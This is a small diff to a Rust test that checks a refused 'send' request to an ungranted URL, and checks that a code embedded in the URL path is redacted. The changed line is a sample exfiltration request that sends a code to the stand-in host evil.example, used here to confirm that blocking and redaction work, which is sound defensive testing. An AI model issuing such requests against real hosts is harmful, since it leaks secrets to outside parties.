@@ -98,7 +98,7 @@ fn a_url_that_is_not_granted_is_refused_with_the_flags_that_grant_it() {
 
 #[test]
 fn a_code_in_the_path_of_a_refused_request_is_redacted() {
-    let path = format!("send GET https://evil.example/{CODE}/{CODE}");
+    let path = format!("send POST https://evil.example/{CODE}/{CODE}");
     let (lines, finished) = Flow::start(provider()).complete(&[path]);
     assert_eq!(lines, ["send: not-granted"]);
     let shown = "`https://evil.example/[redacted]/[redacted]`";
